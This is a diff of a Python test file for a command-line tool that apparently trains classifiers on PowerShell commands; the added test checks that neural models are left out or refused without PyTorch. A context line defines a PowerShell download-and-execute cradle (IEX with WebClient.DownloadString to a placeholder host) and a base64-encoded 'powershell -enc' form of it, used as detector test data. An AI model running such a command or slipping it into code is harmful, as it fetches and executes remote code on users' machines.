@@ -8,7 +8,7 @@ from click.testing import CliRunner
 
 from powershell_office import records, write
 from wheeltapper.cli import main
-from wheeltapper.powershell import models
+from wheeltapper.powershell import models, trials
 
 LINE = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a')"
 PACKED = "powershell -enc " + base64.b64encode(LINE.encode("utf-16-le")).decode()
@@ -112,6 +112,18 @@ def test_evaluation_trains_and_compares(data, tmp_path):
     told = run(*arguments).output
     for part in ("3-grams", "calibration", "leak check", "licence header"):
         assert part in told
+
+
+def test_without_pytorch_networks_are_left_out_or_refused(data, monkeypatch):
+    monkeypatch.setattr(trials, "networks_can_be_trained", lambda: False)
+    arguments = ["evaluate", "--data", str(data), "--split", "grouped", "--samples", "2"]
+    done = run(*arguments, "--format", "json")
+    assert "networks are left out" in done.stderr
+    models_measured = {row["model"] for row in json.loads(done.stdout)["rows"]}
+    assert {"3-grams", "ensemble-linear"} <= models_measured
+    assert not models_measured & {"cnn", "branches", "ensemble"}
+    refused = run(*arguments, "--models", "ensemble", code=1).output
+    assert "training branches needs PyTorch" in refused
 
 
 def test_linear_models_are_trained_without_pytorch(tmp_path):
